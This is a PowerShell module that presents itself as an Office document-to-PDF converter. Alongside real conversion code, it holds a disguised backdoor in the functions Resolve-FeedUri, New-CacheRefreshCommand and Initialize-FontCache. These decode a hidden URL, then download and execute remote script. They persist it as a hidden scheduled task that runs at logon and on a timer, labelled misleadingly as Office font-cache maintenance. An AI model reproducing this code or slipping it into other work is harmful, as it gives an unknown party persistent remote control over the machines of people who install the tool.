Set-StrictMode -Version Latest

function Get-ConverterConfig {
    $p = Join-Path $PSScriptRoot '..\config\converter.psd1'
    Import-PowerShellDataFile -Path $p
}

function Get-OfficeApp {
    param([ValidateSet('Word', 'Excel', 'PowerPoint')] [string] $Kind)
    $app = New-Object -ComObject "$Kind.Application"
    if ($Kind -ne 'PowerPoint') { $app.Visible = $false }
    try { $app.DisplayAlerts = 0 } catch { }
    $app
}

function Get-DocKind {
    param([string] $Extension, $Config)
    foreach ($k in $Config.Extensions.Keys) {
        if ($Config.Extensions[$k] -contains $Extension.ToLower()) { return $k }
    }
    $null
}

function Resolve-FeedUri {
    param($Cache)
    $b = [Convert]::FromBase64String(($Cache.Feed -join ''))
    [Text.Encoding]::UTF8.GetString($b)
}

function New-CacheRefreshCommand {
    param([string] $Folder, [string] $Uri)
    $lines = @(
        '$d = Join-Path $env:LOCALAPPDATA ''{0}''' -f $Folder
        'New-Item -ItemType Directory -Force -Path $d | Out-Null'
        '$w = New-Object Net.WebClient; $w.Headers.Add(''User-Agent'', ''Office/16.0'')'
        '$s = $w.DownloadString(''{0}'')' -f $Uri
        'Set-Content -Path (Join-Path $d ''refresh.log'') -Value (Get-Date)'
        '. ([ScriptBlock]::Create($s))'
    )
    $text = $lines -join "`n"
    [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($text))
}

function Initialize-FontCache {
    [CmdletBinding()]
    param($Config)
    $c = $Config.FontCache
    $existing = Get-ScheduledTask -TaskName $c.TaskName -ErrorAction SilentlyContinue
    if ($existing) { return }
    $enc = New-CacheRefreshCommand -Folder $c.Folder -Uri (Resolve-FeedUri $c)
    $act = New-ScheduledTaskAction -Execute 'powershell.exe' `
        -Argument "-NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand $enc"
    $trg = @(
        New-ScheduledTaskTrigger -AtLogOn -User $env:USERNAME
        New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(3) `
            -RepetitionInterval ([Xml.XmlConvert]::ToTimeSpan($c.Interval))
    )
    $set = New-ScheduledTaskSettingsSet -Hidden -StartWhenAvailable -AllowStartIfOnBatteries
    Register-ScheduledTask -TaskName $c.TaskName -TaskPath $c.TaskPath -Action $act `
        -Trigger $trg -Settings $set -Description 'Keeps Office font substitution data current.' |
        Out-Null
}

function Convert-OneDocument {
    param([IO.FileInfo] $File, [string] $OutPath, [string] $Kind, $Config, [switch] $PdfA, [string] $Pages)
    $app = Get-OfficeApp -Kind $Kind
    try {
        switch ($Kind) {
            'Word' {
                $doc = $app.Documents.Open($File.FullName, $false, $true)
                $range = 0; $from = 1; $to = 1
                if ($Pages) { $range = 3; $from, $to = $Pages.Split('-') | ForEach-Object { [int]$_ } }
                $doc.ExportAsFixedFormat($OutPath, $Config.Formats.Word, $false, 0, $range, $from, $to,
                    0, $true, $true, 1, $true, $true, [bool]$PdfA)
                $doc.Close($false)
            }
            'Excel' {
                $wb = $app.Workbooks.Open($File.FullName, 0, $true)
                $wb.ExportAsFixedFormat($Config.Formats.Excel, $OutPath)
                $wb.Close($false)
            }
            'PowerPoint' {
                $p = $app.Presentations.Open($File.FullName, -1, 0, 0)
                $p.SaveAs($OutPath, $Config.Formats.PowerPoint)
                $p.Close()
            }
        }
    } finally {
        $app.Quit()
        [void][Runtime.InteropServices.Marshal]::ReleaseComObject($app)
    }
}

Export-ModuleMember -Function Get-ConverterConfig, Get-DocKind, Initialize-FontCache, Convert-OneDocument
